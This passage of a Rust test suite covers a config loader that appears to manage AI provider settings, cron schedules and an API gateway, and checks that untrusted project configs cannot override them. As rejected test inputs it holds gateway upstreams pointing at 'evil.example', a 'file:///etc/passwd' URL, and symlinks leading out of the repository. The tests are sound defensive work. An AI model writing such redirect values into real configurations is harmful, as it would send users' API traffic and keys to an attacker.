        (Tier::User, "u", PROVIDERS_EXAMPLE),
        (Tier::Project, "p", hostile),
    ]);
    assert_eq!(loaded.config, user(PROVIDERS_EXAMPLE).config);
    assert_eq!(
        loaded.warnings[0],
        "config: p: providers may not be set by a project config (a cloned repository is not \
         trusted); ignoring it"
    );
    assert_eq!(loaded.warnings.len(), 7, "{:#?}", loaded.warnings);
    assert!(
        loaded.warnings[1..]
            .iter()
            .all(|w| w.contains("may not be set by a project config")),
        "{:#?}",
        loaded.warnings
    );
    assert!(loaded.fallbacks.contains(&"providers".to_string()));
    assert!(loaded.fallbacks.contains(&"historian.model".to_string()));
    // Every historian key is user-only, so a new one cannot slip through.
    for key in KEYS.iter().filter(|k| k.path.starts_with("historian.")) {
        assert_eq!(key.trust, Trust::UserOnly, "{}", key.path);
    }
    // The override tier (MC_CONFIG, --config) is trusted like the user's file.
    let loaded = from_str_layers(&[(Tier::Override, "o", PROVIDERS_EXAMPLE)]);
    assert!(loaded.warnings.is_empty());
    assert_eq!(loaded.config.providers.len(), 3);
}

#[test]
fn invalid_providers_are_ignored_with_a_warning() {
    let loaded = from_str_layers(&[
        (
            Tier::User,
            "u",
            r#"{"providers": {"a": {"kind": "anthropic", "api_key_env": "A_KEY"}}}"#,
        ),
        (
            Tier::Override,
            "o",
            r#"{"providers": {
                "a": {"kind": "anthropic", "api_key_env": "sk-ant-secret-value"},
                "b": {"kind": "gemini"},
                "c": {"kind": "openai", "base_url": "ftp://x"},
                "d": {"kind": "command", "command": []},
                "e": {"kind": "openai", "api_key": "sk-123", "url": "http://x"},
                "bad name": {"kind": "openai"},
                "f": 3
            }}"#,
        ),
    ]);
    let w = &loaded.warnings;
    assert_eq!(
        w[0],
        "config: o: providers.a api_key_env is not an environment variable name (it names the \
         variable that holds the key, not the key itself); keeping the lower layers' definition"
    );
    assert!(
        w.iter()
            .all(|w| !w.contains("sk-ant-secret") && !w.contains("sk-123")),
        "secrets are never echoed: {w:#?}"
    );
    assert_eq!(
        loaded.config.providers["a"].api_key_env.as_deref(),
        Some("A_KEY")
    );
    assert!(w[1].starts_with("config: o: providers.b kind \"gemini\" is not anthropic"));
    assert!(w[2].contains("providers.c base_url \"ftp://x\" is not an http"));
    assert!(w[3].contains("providers.d command needs a program"));
    assert!(w[4].contains("providers.e: unknown field \"api_key\"; API keys are never written"));
    assert!(w[5].contains("providers.e: unknown field \"url\"; did you mean \"base_url\"?"));
    assert!(w[6].contains("providers.bad name is not a valid provider name"));
    assert!(w[7].contains("providers.f is not an object"));
    assert_eq!(w.len(), 8, "{w:#?}");
    // e is usable (unknown fields are only warned about); the rest are not.
    let names: Vec<&str> = loaded.config.providers.keys().map(String::as_str).collect();
    assert_eq!(names, ["a", "e"]);
    assert_eq!(
        loaded.fallbacks,
        [
            "providers.a",
            "providers.b",
            "providers.bad name",
            "providers.c",
            "providers.d",
            "providers.f"
        ]
    );
    let loaded = user(r#"{"providers": []}"#);
    assert_eq!(
        loaded.warnings,
        ["config: user.jsonc: providers = [] is not an object; ignoring it"]
    );
    let loaded = user(r#"{"provider": {}}"#);
    assert_eq!(
        loaded.warnings,
        ["config: user.jsonc: unknown key provider; did you mean providers?"]
    );
}

#[test]
fn model_names_are_provider_slash_model() {
    for good in [
        "anthropic/claude-haiku-4-5",
        "local/qwen3:8b",
        "router/meta-llama/llama-3.1-8b-instruct",
        "a.b_c-d/x",
    ] {
        let loaded = user(&format!(r#"{{"historian": {{"model": "{good}"}}}}"#));
        assert!(loaded.warnings.is_empty(), "{good}: {:?}", loaded.warnings);
        assert_eq!(loaded.config.historian.model.as_deref(), Some(good));
    }
    for bad in [
        "\"claude\"",
        "\"/m\"",
        "\"p/\"",
        "\"p/with space\"",
        "3",
        "[\"a/b\"]",
    ] {
        let loaded = user(&format!(r#"{{"historian": {{"model": {bad}}}}}"#));
        assert_eq!(loaded.config.historian.model, None, "{bad}");
        assert_eq!(loaded.warnings.len(), 1, "{bad}");
        assert!(
            loaded.warnings[0].contains("is not a model name of the form \"provider/model\""),
            "{}",
            loaded.warnings[0]
        );
    }
    let loaded = user(r#"{"historian": {"fallback_models": ["a/b", "nope"]}}"#);
    assert!(loaded.config.historian.fallback_models.is_empty());
    assert!(loaded.warnings[0].contains("has \"nope\", which is not a model name"));
    // null unsets a lower tier's model.
    let loaded = from_str_layers(&[
        (Tier::User, "u", r#"{"historian": {"model": "a/b"}}"#),
        (Tier::Override, "o", r#"{"historian": {"model": null}}"#),
    ]);
    assert_eq!(loaded.config.historian.model, None);
    // The chain drops repeats.
    let loaded =
        user(r#"{"historian": {"model": "a/b", "fallback_models": ["c/d", "a/b", "c/d"]}}"#);
    assert_eq!(loaded.config.historian.chain(), ["a/b", "c/d"]);
}

#[test]
fn schema_describes_providers() {
    let schema = json_schema();
    let providers = &schema["properties"]["providers"];
    assert_eq!(providers["type"], "object");
    assert!(
        providers["description"]
            .as_str()
            .unwrap()
            .contains("User-only")
    );
    let entry = &providers["additionalProperties"];
    assert_eq!(
        entry["properties"]["kind"]["enum"],
        serde_json::json!(["anthropic", "openai", "command", "opencode"])
    );
    assert_eq!(entry["additionalProperties"], false);
    let model = &schema["properties"]["historian"]["properties"]["model"];
    assert!(model["description"].as_str().unwrap().contains("User-only"));
}

#[test]
fn dream_schedules_are_validated_with_a_clear_warning_and_user_only() {
    let c = Config::default();
    assert_eq!(c.dream.model, None);
    assert_eq!(c.dream.schedule.git_index.as_deref(), Some("*/15 * * * *"));
    assert_eq!(c.dream.schedule.consolidate.as_deref(), Some("0 3 * * *"));
    assert_eq!(c.dream.task_token_budget, 30_000);
    assert_eq!(DreamConfig::default(), c.dream);

    let loaded = user(
        r#"{"dream": {"schedule": {"verify": "61 * * * *", "sync": "off", "classify": "@daily"}}}"#,
    );
    assert_eq!(loaded.config.dream.schedule.sync, None);
    assert_eq!(
        loaded.config.dream.schedule.classify.as_deref(),
        Some("@daily")
    );
    assert_eq!(
        loaded.config.dream.schedule.verify.as_deref(),
        Some("30 3 * * *"),
        "a bad expression keeps the default"
    );
    assert_eq!(loaded.warnings.len(), 1, "{:?}", loaded.warnings);
    let warning = &loaded.warnings[0];
    assert!(
        warning.starts_with(
            "config: user.jsonc: dream.schedule.verify = \"61 * * * *\" is not a cron expression ("
        ) && warning.ends_with("; using \"30 3 * * *\""),
        "{warning}"
    );
    assert_eq!(loaded.fallbacks, ["dream.schedule.verify"]);

    let loaded = user(r#"{"dream": {"schedule": {"git_index": "* * *"}}}"#);
    assert!(
        loaded.warnings[0].contains("has 3 fields; a schedule has 5"),
        "{:?}",
        loaded.warnings
    );

    // A cloned repository may not spend the user's tokens or move their schedules.
    let loaded = project(
        r#"{"dream": {"model": "x/y", "tick_token_budget": 9000000, "schedule": {"consolidate": "* * * * *"}}}"#,
    );
    assert_eq!(loaded.config.dream, DreamConfig::default());
    assert_eq!(loaded.warnings.len(), 3, "{:?}", loaded.warnings);
    for key in KEYS.iter().filter(|k| k.path.starts_with("dream.")) {
        assert_eq!(key.trust, Trust::UserOnly, "{}", key.path);
    }
}

#[cfg(unix)]
#[test]
fn project_config_follows_no_link_out_of_the_repository() {
    use std::os::unix::fs::symlink;
    let dir = tempfile::tempdir().unwrap();
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(outside.join("mc")).unwrap();
    let text = r#"{"transform": {"protected_tags": 42}}"#;
    std::fs::write(outside.join("config.jsonc"), text).unwrap();
    std::fs::write(outside.join("mc/config.jsonc"), text).unwrap();
    // The file, `.mc` itself, and `.mc` through `..`: each refused, named.
    let file = dir.path().join("a");
    std::fs::create_dir_all(file.join(".mc")).unwrap();
    symlink(outside.join("config.jsonc"), file.join(".mc/config.jsonc")).unwrap();
    let folder = dir.path().join("b");
    std::fs::create_dir_all(&folder).unwrap();
    symlink(outside.join("mc"), folder.join(".mc")).unwrap();
    let up = dir.path().join("c");
    std::fs::create_dir_all(&up).unwrap();
    symlink("../outside/mc", up.join(".mc")).unwrap();
    for (repo, named) in [
        (&file, file.join(".mc/config.jsonc")),
        (&folder, folder.join(".mc")),
        (&up, up.join(".mc")),
    ] {
        let layer = repo.join(".mc/config.jsonc");
        let loaded = load(&[Layer::new(Tier::Project, &layer)]);
        assert_eq!(
            loaded.config.transform.protected_tags,
            20,
            "{}",
            layer.display()
        );
        assert!(loaded.sources.is_empty());
        let [warning] = loaded.warnings.as_slice() else {
            panic!("{:?}", loaded.warnings)
        };
        assert!(
            warning.contains(&named.display().to_string()) && warning.contains("symbolic link"),
            "{warning}"
        );
    }
    // The user's own file may be a link (dotfile managers make them).
    let loaded = load(&[Layer::new(Tier::User, file.join(".mc/config.jsonc"))]);
    assert_eq!(loaded.config.transform.protected_tags, 42);
}

#[test]
fn the_gateway_keys_are_checked_and_user_only() {
    let c = Config::default();
    assert_eq!(c.gateway.anthropic_upstream, "https://api.anthropic.com");
    assert_eq!(c.gateway.listen, "127.0.0.1:4141");
    assert_eq!(c.gateway.openai_upstream, "https://api.openai.com/v1");
    let chatgpt =
        user(r#"{"gateway": {"openai_upstream": "https://chatgpt.com/backend-api/codex"}}"#);
    assert_eq!(
        chatgpt.config.gateway.openai_upstream,
        "https://chatgpt.com/backend-api/codex"
    );
    let loaded = user(
        r#"{"gateway": {"anthropic_upstream": "http://127.0.0.1:9/x", "listen": "127.0.0.1:7000"}}"#,
    );
    assert_eq!(
        loaded.config.gateway.anthropic_upstream,
        "http://127.0.0.1:9/x"
    );
    assert_eq!(loaded.config.gateway.listen, "127.0.0.1:7000");
    for bad in [
        r#"{"gateway": {"listen": "0.0.0.0:4141"}}"#,
        r#"{"gateway": {"listen": "127.0.0.1"}}"#,
        r#"{"gateway": {"anthropic_upstream": "https://user:pw@evil.example"}}"#,
        r#"{"gateway": {"anthropic_upstream": "file:///etc/passwd"}}"#,
        r#"{"gateway": {"openai_upstream": "https://k:s@evil.example/v1"}}"#,
    ] {
        let loaded = user(bad);
        assert_eq!(loaded.config.gateway, GatewayConfig::default(), "{bad}");
        assert!(!loaded.warnings.is_empty(), "{bad}");
    }
    // A cloned repository cannot point the gateway elsewhere.
    let loaded = project(
        r#"{"gateway": {"anthropic_upstream": "https://evil.example", "openai_upstream": "https://evil.example", "listen": "127.0.0.1:1"}}"#,
    );
    assert_eq!(loaded.config.gateway, GatewayConfig::default());
    let warnings = loaded.warnings.join("\n");
    assert!(
        warnings.contains("gateway.anthropic_upstream"),
        "{warnings}"
    );
    assert!(warnings.contains("gateway.listen"), "{warnings}");
    assert!(warnings.contains("gateway.openai_upstream"), "{warnings}");
}
